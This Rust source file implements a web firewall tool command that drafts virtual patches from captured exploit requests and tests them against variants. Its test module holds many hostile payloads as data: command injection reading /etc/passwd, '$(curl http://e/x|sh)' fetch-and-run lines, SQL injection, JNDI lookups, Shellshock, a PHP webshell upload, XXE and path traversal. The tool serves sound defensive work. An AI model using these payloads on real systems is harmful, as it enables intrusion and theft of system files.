//! The command: read, look, write, run, tell.

use super::args::{PatchCommand, PatchNewArgs};
use super::draft::Draft;
use super::multipart::restore_line_ends;
use super::mutate::variants;
use super::part::{Part, Place, names, parts, path, with, written};
use super::shape::{Finder, SHAPES};
use crate::cli::console::{colour, complain, say};
use crate::cli::ftw::{InProcess, Selection, run_native};
use crate::cli::source::{self, Source, SourceRequest, UNKNOWN};
use crate::compile::{EMBEDDED, Input, load};
use crate::engine::NoWorld;
use crate::reload::today;
use crate::ruleset::Mode;
use crate::syntax::diagnostic::render;
use crate::syntax::seclang::{EmbeddedLoader, FileLoader};
use crate::syntax::yaml::is_name;
use std::path::Path;
use std::sync::Arc;
use time::Duration;

/// Does what was asked for. `false` when it could not be done.
pub(in crate::cli) fn patch(command: &PatchCommand) -> bool {
    let done = match command {
        PatchCommand::New(args) => new(args),
        PatchCommand::List => list(),
    };
    done.map_err(|message| complain(&format!("error: {message}\n"))).is_ok()
}

/// The catalogue, a line for each patch.
fn list() -> Result<(), String> {
    let names = EMBEDDED.iter().map(|(name, _)| *name).filter(|name| name.starts_with("@virtual-patches/"));
    let patch = |name: &str| Input::Patch { file: name.to_owned(), detection_only: false };
    let loaded = load(&names.map(patch).collect::<Vec<_>>(), &EmbeddedLoader::new(EMBEDDED, FileLoader));
    for patch in &loaded.document.patches {
        say(&format!("{:<48} {:<9} {}: {}\n", patch.name, patch.severity, patch.product, patch.title));
    }
    Ok(())
}

fn new(args: &PatchNewArgs) -> Result<(), String> {
    let source = source::open(&args.from)?;
    let normal = match &args.normal {
        Some(file) => source::open(file)?.requests,
        None => Vec::new(),
    };
    let stem = args.output.as_deref().and_then(Path::file_stem).and_then(|stem| stem.to_str());
    let name = args.name.as_deref().or(stem).unwrap_or("new-patch").to_owned();
    if !is_name(&name) {
        return Err(format!("{name} is no name for a patch: lower-case letters, digits, -, _ and ."));
    }
    let mut draft = look(source, &normal, name, args)?;
    let fell = settle(&mut draft)?;
    let text = draft.write();
    match &args.output {
        Some(path) => std::fs::write(path, &text).map_err(|error| format!("{}: {error}", path.display()))?,
        None => say(&text),
    }
    complain(&told(&draft, &fell));
    Ok(())
}

/// Finds the hostile part, and proposes condition and tests.
fn look(
    mut source: Source,
    normal: &[SourceRequest],
    name: String,
    args: &PatchNewArgs,
) -> Result<Draft, String> {
    let finder = Finder::new()?;
    source.requests.iter_mut().for_each(restore_line_ends);
    let mut normal = normal.to_vec();
    normal.iter_mut().for_each(restore_line_ends);
    let normal = normal.as_slice();
    let mut found: Vec<(usize, usize, Part)> = Vec::new();
    for (at, request) in source.requests.iter().enumerate() {
        for part in parts(request).into_iter().chain(names(request)) {
            // What ordinary requests hold there too is not what is hostile.
            let usual =
                normal.iter().any(|normal| parts(normal).contains(&part) || names(normal).contains(&part));
            let mut shapes = finder.find(&part.value).into_iter();
            let shape = shapes.find(|shape| SHAPES[*shape].is_hostile_in(&part.place)).filter(|_| !usual);
            found.extend(shape.map(|shape| (shape, at, part)));
        }
    }
    found.sort_by_key(|(shape, at, _)| (*shape, *at));
    let mut open = source.guesses.clone();
    for (shape, at, part) in found.iter().skip(1).filter(|(.., part)| part.place != found[0].2.place).take(8)
    {
        let shape = SHAPES[*shape].name;
        open.push(format!("{} (request {}) looks hostile too: {shape}", part.place.named(), at + 1));
    }
    let today = today();
    let first = source.requests.first().cloned().ok_or("there is no request")?;
    let mut draft = Draft {
        name,
        about: source.about,
        owner: args.owner.clone().unwrap_or_else(|| "unassigned".to_owned()),
        created: today,
        review_by: today.checked_add(Duration::days(REVIEW_DAYS)).unwrap_or(today),
        request: first,
        part: None,
        also: Vec::new(),
        shape: None,
        ordinary: None,
        matches: Vec::new(),
        passes: Vec::new(),
        open,
    };
    draft.about.cve.extend(args.cve.iter().map(|cve| cve.to_ascii_uppercase()));
    draft.about.cve.retain(|cve| cve.starts_with("CVE-"));
    draft.about.references.retain(|text| text.starts_with("https://") || text.starts_with("http://"));
    let mut found = found.into_iter();
    if let Some((shape, at, part)) = found.next() {
        let beside = found.filter(|(_, other, part)| *other == at && matches!(part.place, Place::Name(_)));
        draft.also = beside.map(|(.., part)| part.place).collect();
        draft.shape = Some(&SHAPES[shape]);
        if !SHAPES[shape].or.is_empty() {
            draft.open.push(SHELL.to_owned());
        }
        draft.request = source.requests.get(at).cloned().unwrap_or_default();
        draft.part = Some(part);
    } else {
        without_shape(&mut draft, &source.requests, normal);
        // What is hostile may well have been in it: to block all requests like this one would be to guess.
        if let Some(unknown) = draft.open.iter().find(|line| draft.part.is_none() && line.ends_with(UNKNOWN))
        {
            return Err(format!(
                "nothing hostile was found, but {unknown}; write what it stands for into the template, or give the \
                 request itself"
            ));
        }
    }
    let place = draft.part.as_ref().map(|part| part.place.clone());
    strip(&mut draft.request, place.as_ref());
    let mut normal = normal.to_vec();
    normal.iter_mut().for_each(|request| strip(request, place.as_ref()));
    propose(&mut draft, &normal);
    Ok(draft)
}

/// Leaves only headers that matter: others hold somebody's session, and the file is going to be passed round.
fn strip(request: &mut SourceRequest, place: Option<&Place>) {
    request.headers.retain_mut(|(name, value)| match place {
        Some(Place::Header(hostile)) if name.eq_ignore_ascii_case(hostile) => true,
        Some(Place::Cookie(hostile)) if name.eq_ignore_ascii_case("cookie") => {
            let kept = value.split(';').map(str::trim);
            let kept = kept.filter(|pair| pair.split('=').next().is_some_and(|name| name.trim() == hostile));
            *value = kept.collect::<Vec<_>>().join("; ");
            true
        }
        _ => ["host", "content-type"].iter().any(|known| name.eq_ignore_ascii_case(known)),
    });
}

/// Nothing looks hostile by itself: a value that does not fit what ordinary requests have, or the request as such.
fn without_shape(draft: &mut Draft, requests: &[SourceRequest], normal: &[SourceRequest]) {
    for request in requests {
        for part in parts(request).into_iter().filter(|part| part.place != Place::Path) {
            let usual: Vec<Vec<u8>> =
                normal.iter().flat_map(parts).filter(|p| p.place == part.place).map(|p| p.value).collect();
            let fits = |pattern: &str, value: &[u8]| {
                let whole = regex::bytes::Regex::new(&format!(r"\A(?:{pattern})\z"));
                whole.is_ok_and(|regex| regex.is_match(value))
            };
            let pattern = ORDINARY
                .iter()
                .copied()
                .find(|pattern| !usual.is_empty() && usual.iter().all(|value| fits(pattern, value)))
                .filter(|pattern| !fits(pattern, &part.value));
            if let Some(pattern) = pattern {
                draft.open.push(format!(
                    "nothing in {} is known to be hostile; it is taken to be so because ordinary values are `{pattern}`",
                    part.place.named()
                ));
                (draft.request, draft.ordinary, draft.part) = (request.clone(), Some(pattern), Some(part));
                return;
            }
        }
    }
    let telling = requests.iter().find_map(|request| {
        let unusual = |part: &Part| match &part.place {
            Place::Header(name) => is_telling(name) && !normal.iter().any(|n| n.header(name).is_some()),
            _ => false,
        };
        Some((request, parts(request).into_iter().find(unusual)?))
    });
    if let Some((request, part)) = telling {
        draft.open.push(format!(
            "nothing is known to be hostile; {} is taken to be so because its name tells who asks or what is asked for, and \
             no browser sends it: whether a proxy in front or a client of your own does",
            part.place.named()
        ));
        (draft.request, draft.part) = (request.clone(), Some(part));
        return;
    }
    let property = requests.iter().find_map(|request| {
        if request.header("Content-Type").is_some_and(|kind| kind.to_ascii_lowercase().contains("json")) {
            return None;
        }
        let unusual = |part: &Part| {
            is_property(&part.value) && !normal.iter().any(|normal| names(normal).contains(part))
        };
        Some((request, names(request).into_iter().find(unusual)?))
    });
    if let Some((request, part)) = property {
        draft.open.push(format!(
            "nothing is known to be hostile; {} is taken to be so because it reads as the way to a property of an object: \
             whether a form of the application has it",
            part.place.named()
        ));
        (draft.request, draft.part) = (request.clone(), Some(part));
        return;
    }
    // The request that changes most: a sequence logs in and looks round before.
    let changes = |request: &SourceRequest| {
        let reads = matches!(request.method.as_str(), "GET" | "HEAD" | "OPTIONS");
        (!reads, !request.body.is_empty(), request.target.contains('?'))
    };
    let most =
        requests.iter().enumerate().max_by_key(|(at, request)| (changes(request), std::cmp::Reverse(*at)));
    if let Some((at, request)) = most {
        draft.request = request.clone();
        for (other, request) in requests.iter().enumerate().filter(|(other, _)| *other != at).take(8) {
            draft.open.push(format!(
                "the patch is about request {}; whether request {} ({} {}) is the one that matters",
                at + 1,
                other + 1,
                request.method,
                request.target
            ));
        }
    }
    draft.open.push(
        "no value of the request is known to be hostile, so the patch blocks the method on this path altogether; \
         --normal FILE with ordinary requests helps to tell"
            .to_owned(),
    );
}

/// Whether a parameter's name is a way to a property, three steps or more: `bean.settings.flag`.
fn is_property(name: &[u8]) -> bool {
    let step = |step: &[u8]| {
        step.first().is_some_and(u8::is_ascii_alphabetic)
            && step.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_')
    };
    name.split(|b| *b == b'.').count() > 2 && name.split(|b| *b == b'.').all(step)
}

/// Whether a header's name says that an application takes from it who asks, or what for.
fn is_telling(name: &str) -> bool {
    let name = name.to_ascii_lowercase().replace('_', "-");
    let usual = [
        "authorization",
        "x-requested-with",
        "x-forwarded-for",
        "x-forwarded-proto",
        "x-forwarded-host",
        "user-agent",
    ];
    let words = [
        "original",
        "rewrite",
        "override",
        "internal",
        "bypass",
        "middleware",
        "subrequest",
        "remote-user",
        "-user",
        "auth",
        "admin",
        "role",
        "impersonat",
        "as-user",
        "x-real",
        "client-ip",
        "originating",
    ];
    !usual.contains(&name.as_str()) && words.iter().any(|word| name.contains(word))
}

/// The tests, before they have been tried.
fn propose(draft: &mut Draft, normal: &[SourceRequest]) {
    let request = draft.request.clone();
    let mut passes: Vec<(String, SourceRequest)> =
        normal.iter().map(|request| ("an ordinary request".to_owned(), request.clone())).collect();
    match draft.part.clone() {
        Some(Part { place: Place::Header(name), .. })
            if draft.shape.is_none() && draft.ordinary.is_none() =>
        {
            draft.matches = vec![("as it was".to_owned(), request.clone())];
            let header = |change: &dyn Fn(&mut (String, String))| {
                let mut out = request.clone();
                out.headers.iter_mut().filter(|(n, _)| n.eq_ignore_ascii_case(&name)).for_each(change);
                out
            };
            draft.matches.push(("another value".to_owned(), header(&|h| "1".clone_into(&mut h.1))));
            draft.matches.push(("an empty value".to_owned(), header(&|h| h.1.clear())));
            draft.matches.push(("in upper case".to_owned(), header(&|h| h.0.make_ascii_uppercase())));
            let target = format!("/elsewhere-{}", draft.name);
            draft.matches.push(("on another path".to_owned(), SourceRequest { target, ..request.clone() }));
            let mut without = request.clone();
            without.headers.retain(|(n, _)| !n.eq_ignore_ascii_case(&name));
            passes.push(("without the header".to_owned(), without.clone()));
            without.target.push_str(if without.target.contains('?') { "&x=1" } else { "?x=1" });
            passes.push(("another query without it".to_owned(), without));
            draft.open.push(
                "the condition holds on every path; name those that matter if you know them".to_owned(),
            );
        }
        Some(part) => {
            let variants = variants(&request, &part, draft.shape);
            draft.matches = variants.into_iter().map(|v| (v.what.to_owned(), v.request)).collect();
            let ordinary = if let Place::Name(_) = part.place { NAMES } else { BENIGN };
            for value in ordinary {
                let value = if part.place == Place::Path {
                    format!("/{}", value.trim_start_matches('/'))
                } else {
                    (*value).to_owned()
                };
                let exchanged = with(&request, &part.place, &written(&part.place, value.as_bytes()));
                let exchanged = exchanged.map(|request| {
                    let plain = |request, place| with(&request, place, "x1").unwrap_or(request);
                    if let Place::Name(_) = part.place {
                        draft.also.iter().fold(request, plain)
                    } else {
                        request
                    }
                });
                passes
                    .extend(exchanged.map(|request| ("an ordinary value in its place".to_owned(), request)));
            }
            if draft.path_pattern().is_some() {
                let rest = request.target.get(path(&request).len()..).unwrap_or("").to_owned();
                let target = format!("/elsewhere-{}{rest}", draft.name);
                passes.push((
                    "the same on another path".to_owned(),
                    SourceRequest { target, ..request.clone() },
                ));
                draft.open.push(format!(
                    "whether other paths than {} lead to the same code, and whether segments of it vary",
                    path(&request)
                ));
            } else {
                draft.open.push(
                    "the condition holds on every path; name those that matter if you know them".to_owned(),
                );
            }
            if matches!(part.place, Place::Query(_) | Place::Form(_) | Place::Field(_)) {
                draft.open.push(
                    "the parameter is looked for in the query string and in the body, with any method"
                        .to_owned(),
                );
            }
            if part.place == Place::Body {
                draft.open.push(
                    "the body is of a type that has no parameters; it is looked at as a whole".to_owned(),
                );
            }
        }
        None => {
            draft.matches = vec![("as it was".to_owned(), request.clone())];
            let (path, rest) = (path(&request), request.target.get(path(&request).len()..).unwrap_or(""));
            for (what, target) in [
                ("a slash more in the path", format!("/{path}{rest}")),
                ("a parameter in the path", format!("{path};x=y{rest}")),
                ("in upper case", format!("{}{rest}", path.to_ascii_uppercase())),
            ] {
                draft.matches.push((what.to_owned(), SourceRequest { target, ..request.clone() }));
            }
            let other = if request.method == "GET" { "HEAD" } else { "GET" };
            passes.push((
                "another method".to_owned(),
                SourceRequest { method: other.to_owned(), body: Vec::new(), ..request.clone() },
            ));
            let target = format!("/elsewhere-{}", draft.name);
            passes.push(("another path".to_owned(), SourceRequest { target, ..request }));
        }
    }
    draft.passes = passes;
}

/// Runs the tests and takes away those that fail; these are told.
fn settle(draft: &mut Draft) -> Result<Vec<String>, String> {
    let verdicts = run(draft)?;
    let mut fell = Vec::new();
    let mut verdicts = verdicts.into_iter();
    let mut keep = |tests: &mut Vec<(String, SourceRequest)>, wrong: &str| {
        tests.retain(|(note, request)| {
            let good = verdicts.next().unwrap_or(false);
            if !good {
                fell.push(format!("{wrong}: {note}: {} {}", request.method, request.target));
            }
            good
        });
    };
    keep(&mut draft.matches, "not blocked");
    keep(&mut draft.passes, "blocked, though it looks ordinary");
    if draft.matches.is_empty() {
        return Err(
            "the proposed condition does not match the exploit itself; write the patch by hand".to_owned()
        );
    }
    draft.open.extend(fell.iter().cloned());
    if run(draft)?.contains(&false) {
        return Err("the patch fails its own tests, which should not happen".to_owned());
    }
    Ok(fell)
}

/// Whether each test of the draft is met, in the order in which they are written.
fn run(draft: &Draft) -> Result<Vec<bool>, String> {
    let base = Input::File("@engine.conf".to_owned());
    let patch = Input::Text { name: format!("{}.yaml", draft.name), text: draft.write() };
    let loaded = load(&[base, patch], &EmbeddedLoader::new(EMBEDDED, FileLoader));
    let Some(ruleset) = loaded.ruleset.clone() else {
        let told = render(&loaded.diagnostics, &loaded.sources, colour());
        return Err(format!("the patch does not compile; write it by hand\n{told}"));
    };
    let mut engine = InProcess::new(ruleset, Arc::new(NoWorld));
    engine.mode = Some(Mode::DetectionOnly);
    let results = run_native(&engine, &loaded, &Selection::default());
    Ok(results.iter().map(|result| result.faults.is_empty()).collect())
}

fn told(draft: &Draft, fell: &[String]) -> String {
    let mut out = match (&draft.part, draft.shape) {
        (Some(part), Some(shape)) => format!("found {} in {}\n", shape.name, part.place.named()),
        (Some(part), None) if draft.ordinary.is_none() => {
            format!("found no hostile value, but {}\n", part.place.named())
        }
        (Some(part), None) => format!("found a value that is not ordinary in {}\n", part.place.named()),
        _ => "found no hostile value\n".to_owned(),
    };
    out.push_str(&format!(
        "{} variants of the exploit are blocked, {} ordinary requests pass\n",
        draft.matches.len(),
        draft.passes.len()
    ));
    for line in draft.open.iter().filter(|line| !fell.contains(line)) {
        out.push_str(&format!("to decide: {line}\n"));
    }
    for line in fell {
        out.push_str(&format!("{line}\n"));
    }
    out.push_str("try it with mode: DetectionOnly, if there is time\n");
    out
}

/// What no pattern settles.
const SHELL: &str = "a shell reads a command in more ways than a pattern knows, and this one knows common commands: where \
                     ordinary values are alike (numbers, names of hosts), a pattern for them, `!@rx \\A[a-z0-9.-]{1,253}\\z`, \
                     leaves no way round";
/// Days after which a new patch is reviewed: it was written in haste.
const REVIEW_DAYS: i64 = 90;
/// Values that nobody should be blocked for.
const BENIGN: &[&str] =
    &["1", "abc", "hello world", "O'Brien & Sons", "jane@example.com", "2026-11-22", "docs/report.pdf"];
/// Names of parameters as applications have them.
const NAMES: &[&str] = &["id", "class_id", "userName", "items[0]", "filter[name]"];
/// Patterns for ordinary values, the narrowest first.
const ORDINARY: &[&str] = &[
    "[0-9]{1,20}",
    "[0-9A-Fa-f-]{1,64}",
    "[A-Za-z0-9_-]{1,128}",
    "[A-Za-z0-9_.@ -]{1,256}",
    r"[^\x00-\x1f\x7f<>&;|`$(){}]{0,1024}",
];

#[cfg(test)]
mod tests {
    use super::*;

    fn args() -> PatchNewArgs {
        PatchNewArgs {
            from: "x".into(),
            normal: None,
            output: None,
            name: None,
            owner: None,
            cve: Vec::new(),
        }
    }

    fn drafted(text: &str, normal: &str) -> (Draft, Vec<String>) {
        let source = source::read(text).expect("it is sound");
        let normal =
            if normal.is_empty() { Vec::new() } else { source::read(normal).expect("it is sound").requests };
        let mut draft = look(source, &normal, "a-patch".to_owned(), &args()).expect("a draft");
        let fell = settle(&mut draft).expect("the patch works");
        (draft, fell)
    }

    #[test]
    fn an_exploit_becomes_a_patch_that_holds_against_its_variants() {
        for (text, place, name) in [
            (
                "GET /ping.cgi?lang=en&host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd HTTP/1.1\nHost: h\n\n",
                Place::Query("host".to_owned()),
                "a shell command",
            ),
            (
                "curl 'http://h/files/view?name=../../../etc/passwd'",
                Place::Query("name".to_owned()),
                "a step out of the directory",
            ),
            (
                "curl http://h/login -d 'user=admin%27%20or%201%3D1--&pw=x'",
                Place::Form("user".to_owned()),
                "SQL",
            ),
            (
                "curl http://h/api -H 'Content-Type: application/json' -d '{\"a\": {\"b\": \"${jndi:ldap://e/a}\"}}'",
                Place::Json("json.a.b".to_owned()),
                "a JNDI lookup",
            ),
            (
                "curl http://h/api -H 'Content-Type: application/json' -d '{\"s\": [{\"t\": 1}, {\"c\": \"$(curl http://e/x|sh)\"}]}' | jq .",
                Place::Json("json.s.array_1.c".to_owned()),
                "a shell command",
            ),
            (
                "GET / HTTP/1.1\nUser-Agent: () { :; }; /bin/id\n\n",
                Place::Header("User-Agent".to_owned()),
                "a shell function",
            ),
            (
                "POST /up HTTP/1.1\nContent-Type: multipart/form-data; boundary=b\n\n--b\nContent-Disposition: form-data; name=\"file\"; filename=\"shell.php\"\nContent-Type: image/png\n\nGIF89a\n--b--\n",
                Place::FileName("file".to_owned()),
                "a file that a server would run",
            ),
            (
                "POST /up HTTP/1.1\nContent-Type: multipart/form-data; boundary=b\n\n--b\nContent-Disposition: form-data; name=\"file\"; filename=\"a.jpg\"\n\nGIF89a<?php system($_GET[1]);\n--b--\n",
                Place::Content("file".to_owned()),
                "PHP code",
            ),
            (
                "curl -sk http://h/up -F 'host=127.0.0.1;cat /etc/passwd' -F f=@a.txt",
                Place::Field("host".to_owned()),
                "a shell command",
            ),
            ("GET /static/../../etc/passwd HTTP/1.1\n\n", Place::Path, "a step out of the directory"),
            (
                "POST /soap HTTP/1.1\nContent-Type: text/xml\n\n<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>\n",
                Place::Body,
                "an external entity",
            ),
        ] {
            let (draft, _) = drafted(text, "");
            assert_eq!(draft.part.as_ref().map(|part| &part.place), Some(&place), "{text}");
            assert_eq!(draft.shape.map(|shape| shape.name), Some(name), "{text}");
            assert!(draft.matches.iter().any(|(note, _)| note == "as it was"), "{text}");
            assert!(draft.matches.len() >= 2 && draft.passes.len() >= 3, "{text}: {}", draft.write());
        }
    }

    #[test]
    fn a_command_is_found_however_a_shell_lets_it_be_written() {
        for command in [
            "1;cat /etc/passwd",
            "1|whoami",
            "$(wget http://e/x)",
            "1;c''at /etc/passwd",
            "1;{cat,/etc/passwd}",
        ] {
            let text = format!("curl http://h/ping -F 'lang=en' -F \"host={}\"", command.replace('$', "\\$"));
            let (draft, fell) = drafted(&text, "");
            let written = draft.write();
            assert_eq!(draft.shape.map(|shape| shape.name), Some("a shell command"), "{command}: {written}");
            assert!(fell.is_empty(), "{command}: {fell:?}");
            assert!(written.contains("@detectShell") && written.contains("      - any:\n"), "{written}");
            assert!(draft.open.iter().any(|line| line == SHELL), "{written}");
        }
        let (draft, _) = drafted("curl 'http://h/ping?host=1%3Bcat%20/etc/passwd'", "");
        for what in
            ["quotes within the command", "a backslash within the command", "the command by a wildcard"]
        {
            assert!(draft.matches.iter().any(|(note, _)| note == what), "{what}: {}", draft.write());
        }
        assert!(draft.write().contains("%2Fbin%2Fc%3Ft"), "{}", draft.write());
    }

    #[test]
    fn what_a_template_hides_is_not_guessed() {
        let template = |value: &str| {
            let text = format!(
                "id: x\ninfo: {{name: x}}\nhttp:\n  - raw:\n      - |\n        POST /login HTTP/1.1\n        Content-Type: application/x-www-form-urlencoded\n\n        user={value}\n"
            );
            let source = source::read(&text).expect("it is sound");
            look(source, &[], "a-patch".to_owned(), &args())
        };
        let draft = template("{{url_encode(\"{{7*7}}\")}}").expect("a draft");
        assert_eq!(draft.shape.map(|shape| shape.name), Some("a template"), "{}", draft.write());
        let error = template("{{zlib(\"{{7*7}}\")}}").expect_err("it cannot be worked out");
        assert!(error.contains("zlib"), "{error}");
        assert!(template("{{rand_text_alpha(8)}}").is_ok());
    }

    #[test]
    fn ordinary_requests_tell_what_is_hostile() {
        let exploit = "curl 'http://h/item?id=7abc!'";
        let (draft, _) = drafted(exploit, "curl 'http://h/item?id=12'");
        assert_eq!(draft.ordinary, Some("[0-9]{1,20}"));
        let (draft, _) = drafted(exploit, "");
        assert!(draft.part.is_none() && draft.open.iter().any(|line| line.contains("altogether")));
    }

    #[test]
    fn a_place_in_a_list_is_any_place_in_it() {
        let (draft, _) = drafted(
            "curl http://h/api -H 'Content-Type: application/json' -d '{\"s\": [{\"c\": \"a;cat /etc/passwd\"}]}'",
            "",
        );
        let written = draft.write();
        assert!(written.contains(r"'ARGS:/^json\.s\.array_[0-9]+\.c$/'"), "{written}");
        for what in ["further on in its list", "written as escapes"] {
            assert!(draft.matches.iter().any(|(note, _)| note == what), "{what}: {written}");
        }
    }

    #[test]
    fn a_header_that_tells_who_asks_is_told() {
        let exploit = "GET /admin/users HTTP/1.1\nHost: h\nX-Token: 1\nX-Original-URL: /public\n\n";
        let (draft, fell) = drafted(exploit, "");
        let written = draft.write();
        assert!(written.contains("'&REQUEST_HEADERS:X-Original-URL'") && fell.is_empty(), "{written}");
        assert!(draft.matches.len() == 5 && draft.passes.len() == 2, "{written}");
        // Which ordinary requests have too.
        let (draft, _) = drafted(exploit, "GET /a HTTP/1.1\nX-Original-URL: /a\n\n");
        assert!(draft.part.is_none());
    }

    #[test]
    fn names_of_parameters_can_be_what_is_hostile() {
        let (draft, fell) = drafted("curl -d 'class.module.classLoader.resources.x=1&a=2' http://h/form", "");
        assert_eq!(draft.shape.map(|shape| shape.name), Some("a way into objects"), "{}", draft.write());
        assert!(draft.matches.len() > 6 && draft.passes.len() > 4 && fell.is_empty(), "{}", draft.write());
        let json = "curl http://h/t -H 'Content-Type: application/json' -d '{\"h\": {\"w\": 1, \"__class\": \"a\\\\b\", \"__construct()\": [1]}}'";
        let (draft, fell) = drafted(json, "");
        assert!(draft.passes.len() > 4 && fell.is_empty(), "{fell:?}");
        assert_eq!(draft.part.map(|part| part.place), Some(Place::Name("__class".to_owned())));
        // Members of JSON are reached by points as well, which says nothing.
        let (draft, _) =
            drafted("curl http://h/t -H 'Content-Type: application/json' -d '{\"a.b.c\": 1}'", "");
        assert!(draft.part.is_none());
        let (draft, fell) = drafted("curl 'http://h/info?provider.config.setupComplete=0'", "");
        assert!(draft.write().contains("'&ARGS:provider.config.setupComplete'") && fell.is_empty());
    }

    #[test]
    fn of_several_requests_the_one_that_changes_most_is_taken() {
        let template = "id: x\ninfo: {name: x}\nhttp:\n  - raw:\n      - |\n        GET /setup HTTP/1.1\n\n      - |\n        POST /setup/admin HTTP/1.1\n        Content-Type: application/x-www-form-urlencoded\n\n        a=b\n      - |\n        GET /home?a=b HTTP/1.1\n\n";
        let (draft, _) = drafted(template, "");
        assert_eq!((draft.request.method.as_str(), draft.request.target.as_str()), ("POST", "/setup/admin"));
        assert!(draft.open.iter().any(|line| line.contains("request 3 (GET /home?a=b)")), "{:?}", draft.open);
    }

    #[test]
    fn line_breaks_in_a_body_are_none() {
        let (draft, _) = drafted("POST /api HTTP/1.1\nContent-Type: application/x-protobuf\n\na\nb\n", "");
        assert!(draft.part.is_none() && draft.open.iter().any(|line| line.contains("altogether")));
    }

    #[test]
    fn uploads_are_written_as_text() {
        let text = "POST /up HTTP/1.1\nContent-Type: multipart/form-data; boundary=b\n\n--b\nContent-Disposition: form-data; name=\"f\"; filename=\"s.php\"\n\n  GIF89a\n\n<?php x\n--b--\n";
        let written = drafted(text, "").0.write();
        assert!(!written.contains("body_base64") && written.contains("            GIF89a\n"), "{written}");
    }

    #[test]
    fn sessions_are_not_passed_on() {
        let text = "GET /a?x=../../b HTTP/1.1\nHost: h\nCookie: sid=s3cret\nAuthorization: Basic s3cret\n\n";
        assert!(!drafted(text, "curl http://h/a?x=1 -b sid=s3cret").0.write().contains("s3cret"));
        let (draft, _) = drafted("GET / HTTP/1.1\nCookie: sid=s3cret; lang=../../b\n\n", "");
        assert_eq!(draft.part.as_ref().map(|part| &part.place), Some(&Place::Cookie("lang".to_owned())));
        assert!(!draft.write().contains("s3cret"));
    }

    #[test]
    fn what_is_hostile_everywhere_is_not_tied_to_a_path() {
        let (draft, _) = drafted("GET /x HTTP/1.1\nX-Api-Version: ${jndi:ldap://e/a}\n\n", "");
        assert!(draft.path_pattern().is_none());
        assert!(draft.write().contains("REQUEST_HEADERS:X-Api-Version"));
    }
}
